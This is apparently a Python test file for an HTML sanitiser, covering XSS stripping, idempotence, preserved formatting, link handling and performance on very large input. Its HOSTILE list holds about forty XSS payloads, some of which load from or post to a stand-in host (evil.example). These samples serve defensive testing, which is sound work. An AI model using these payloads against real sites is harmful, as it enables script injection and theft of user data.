"""HTML from outside: what carries meaning stays, what could act is gone, cleaned once for all."""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from academy.text import (
    ALLOWED_SCHEMES,
    ALLOWED_TAGS,
    clean_html,
    clean_line,
    fold,
    is_web_address,
    plain_text,
    slug,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1) style='position:fixed'>Press</p>",
    "<a href='javascript:alert(1)'>Press</a>",
    "<a href='JaVaScRiPt:alert(1)'>Press</a>",
    "<a href='java&#10;script:alert(1)'>Press</a>",
    "<a href='&#1;javascript:alert(1)'>Press</a>",
    "<a href='java\x00script:alert(1)'>Press</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>Press</a>",
    "<a href='vbscript:msgbox(1)'>Press</a>",
    "<a href='https://example.org' target=_blank onmouseover=alert(1)>Press</a>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>Press</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>Press</math>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction='javascript:x'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<details open ontoggle=alert(1)><summary>Press</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<p id=csrf_token name=main class=btn lang=en>Named</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud83d<script>alert(1)</script>",
    "<\u0338script>alert(1)</script>",
]
PIECES = st.sampled_from(
    [
        *("<p>", "</p>", "<a href='https://a.example'>", "</a>", "<b>", "</b>", "<i>", "<h3>"),
        *("<ul>", "<li>", "<br>", "<table>", "<td>", "<div>", "<script>", "</script>", "<svg>"),
        *("<style>", "</style>", "<math>", "<mglyph>", "<select>", "<template>", "<noscript>"),
        *("<textarea>", "<title>", "<pre>\n", "<!--", "-->", "<img onerror=x>", "&lt;", "&amp;"),
        *("&#8;", "&#13;", "&#824;", "&nbsp;", "\xa0", "\u0301", "\u0338", "\ud800", "\x00"),
        *("\n\n", "\r", " ", "x", "é", "<", ">", '"', "'", "&", ";"),
    ]
)
MARKUP = st.one_of(st.text(), st.lists(PIECES, max_size=20).map("".join))


class Reader(HTMLParser):
    """Notes every tag and attribute that a page would take over."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.wrong.append(tag)
        named = dict(attrs)
        link = named.pop("href", "https://") if tag == "a" else "https://"
        if (link or "").partition(":")[0].lower() not in ALLOWED_SCHEMES:
            self.wrong.append(f"{tag} {link}")
        if named.pop("rel", "") != ("noopener nofollow ugc" if tag == "a" else ""):
            self.wrong.append(f"{tag} rel")
        self.wrong += [name for name in named if name not in {"lang", "title"}]

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(data)


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_could_act_is_left(markup: str) -> None:
    for given_ in (markup, f"<p>Before</p>{markup}<p>After</p>", f"<li><b>{markup}"):
        assert Reader(clean_html(given_)).wrong == []


@given(MARKUP)
@example("".join(HOSTILE))
def test_nothing_that_could_act_is_left_of_anything(markup: str) -> None:
    assert Reader(clean_html(markup)).wrong == []


@given(MARKUP, st.integers(20, 60))
@example("x <script>alert(1)</script> y", 50)
@example("<div>a\n\nb</div>", 50)
@example("<p>&#824;x</p>", 50)
@example("e&#769;&#13;&#8;", 50)
@example("<a href='https://a'>1<table><td><a href='https://b'>2", 60)
@example("&" * 60, 20)
def test_cleaning_twice_is_cleaning_once(markup: str, limit: int) -> None:
    for most in (limit, 50_000):
        once = clean_html(markup, limit=most)
        assert clean_html(once, limit=most) == once


def test_what_carries_meaning_stays() -> None:
    markup = (
        "<h3>About</h3><p>A <strong>course</strong> for <em>cities</em>.<br>Twice.</p>"
        "<ul><li>One</li></ul><ol><li>Two</li></ol><blockquote>Three</blockquote>"
    )
    assert clean_html(markup) == markup
    link = '<a href="https://example.org/?a=1&amp;b=2" rel="noopener nofollow ugc">More</a>'
    assert clean_html(link) == link
    assert clean_html('<a href="mailto:a@example.org" class="x" target="y">Mail</a>') == (
        '<a href="mailto:a@example.org" rel="noopener nofollow ugc">Mail</a>'
    )


@pytest.mark.parametrize("link", ["/en/my/account", "page.html", "?q=x", "#top", "", "//a.example"])
def test_a_link_without_a_scheme_is_no_link(link: str) -> None:
    assert clean_html(f'<a href="{link}">More</a>') == ('<a rel="noopener nofollow ugc">More</a>')


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("One\n\nTwo\nlines\n \nThree", "<p>One</p><p>Two\nlines</p><p>Three</p>"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
        ("Agua &amp; vida", "<p>Agua &amp; vida</p>"),
        ("<div>One</div>", "<p>One</p>"),
        ("<b>One</b> and\n\nTwo", "<p><b>One</b> and</p><p>Two</p>"),
        ("<b>One\n\nTwo</b>", "<p><b>One</b></p><p><b>Two</b></p>"),
        ("<p>One\n\nTwo</p>", "<p>One\n\nTwo</p>"),
        ("", ""),
        (" \n\n\t ", ""),
        ("<script>alert(1)</script>", ""),
        ("<p>unfinished <b>bold", "<p>unfinished <b>bold</b></p>"),
    ],
)
def test_text_becomes_paragraphs(text: str, markup: str) -> None:
    assert clean_html(text) == markup


READERS: list[Callable[[str], object]] = [
    *(clean_html, clean_line, plain_text, slug, fold, is_web_address),
]


@pytest.mark.parametrize("read", READERS)
@pytest.mark.parametrize(
    "pattern",
    ["<a", "</p", "<!--", "<", "&a", "&#1", "(", "\n ", " ", "a", "http://a", "\u0301", "-"],
)
def test_a_megabyte_of_one_pattern_is_read_at_once(
    read: Callable[[str], object], pattern: str
) -> None:
    # No clock is needed: what takes the square of the length would not end here.
    read(pattern * (1_000_000 // len(pattern)) + " ")
